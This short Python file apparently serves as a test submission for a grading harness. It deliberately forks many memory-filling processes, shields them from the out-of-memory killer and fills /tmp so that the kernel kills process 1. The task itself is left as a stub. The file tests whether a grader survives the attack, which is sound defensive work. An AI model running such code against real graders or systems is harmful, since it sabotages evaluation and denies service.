"""Small processes and full memory, so that the kernel ends process 1 rather than them; expected verdict: a clear verdict in time, grader unharmed, no points."""
import ctypes
import mmap
import os
import time

ctypes.CDLL(None).prctl(4, 1)
try:
    open("/proc/self/oom_score_adj", "w").write("0")
except OSError:
    pass
kept = []
for place in range(60):
    try:
        if os.fork() == 0:
            try:
                open("/proc/self/oom_score_adj", "w").write("-1000")
            except OSError:
                pass
            memory = mmap.mmap(-1, 6 << 20)
            for offset in range(0, 6 << 20, 4096):
                memory[offset] = 1
            time.sleep(60)
    except OSError:
        break
try:
    with open("/tmp/fill", "wb") as file:
        for _ in range(60):
            file.write(b"x" * (1 << 20))
except OSError:
    pass

from flask import Flask


def fee(amount):
    return None


def create_app():
    return Flask(__name__)
